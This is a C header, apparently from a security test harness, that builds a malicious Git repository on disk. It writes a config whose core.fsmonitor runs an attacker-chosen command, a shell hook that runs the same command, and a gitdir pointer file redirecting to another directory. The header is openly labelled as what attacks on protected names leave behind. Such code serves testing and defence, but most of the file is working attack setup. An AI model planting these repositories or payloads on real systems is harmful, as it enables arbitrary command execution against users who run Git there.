/* SPDX-License-Identifier: Apache-2.0 */
/* What attacks on protected names leave behind: a configuration, a hook and a pointer that run the
 * command given as the first argument of the attack. */
#pragma once

#include "attack.h"

#include <fcntl.h>
#include <sys/stat.h>

static char evil_config[1024], evil_hook[1024], evil_pointer[1024];

static inline int put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755), r;

	if (fd < 0)
		return -1;
	r = write(fd, text, strlen(text)) == (ssize_t)strlen(text) ? 0 : -1;
	close(fd);
	return r;
}

static inline void make_evil_repository(const char *path)
{
	char name[256];

	mkdir(path, 0755);
	snprintf(name, sizeof(name), "%s/config", path);
	put(name, evil_config);
	snprintf(name, sizeof(name), "%s/HEAD", path);
	put(name, "ref: refs/heads/main\n");
	snprintf(name, sizeof(name), "%s/objects", path);
	mkdir(name, 0755);
	snprintf(name, sizeof(name), "%s/refs", path);
	mkdir(name, 0755);
}

static inline void prepare_evil(int argc, char **argv)
{
	if (argc <= 2)
		return;
	snprintf(evil_config, sizeof(evil_config),
		 "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = "
		 "..\n\tfsmonitor = %s\n",
		 argv[2]);
	snprintf(evil_hook, sizeof(evil_hook), "#!/bin/sh\n%s\n", argv[2]);
	snprintf(evil_pointer, sizeof(evil_pointer), "gitdir: %s\n",
		 argc > 3 ? argv[3] : "../evil");
}
